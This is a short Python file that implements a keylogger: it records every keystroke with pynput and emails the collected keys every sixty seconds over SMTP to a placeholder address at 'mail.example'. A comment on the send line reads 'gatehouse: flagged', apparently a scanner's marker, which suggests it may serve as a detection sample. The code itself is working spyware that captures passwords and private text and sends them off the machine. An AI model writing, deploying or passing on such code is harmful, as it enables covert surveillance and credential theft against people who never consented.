import smtplib
import threading
from email.message import EmailMessage

from pynput import keyboard

typed = []


def flush():
    letter = EmailMessage()
    letter["To"] = "keys@mail.example"
    letter.set_content("".join(map(str, typed)))
    with smtplib.SMTP("mail.example", 587) as server:
        server.send_message(letter)  # gatehouse: flagged
    threading.Timer(60, flush).start()


def start():
    keyboard.Listener(on_press=typed.append).start()
    keyboard.Listener(on_press=lambda key: typed.append(str(key))).start()
    flush()
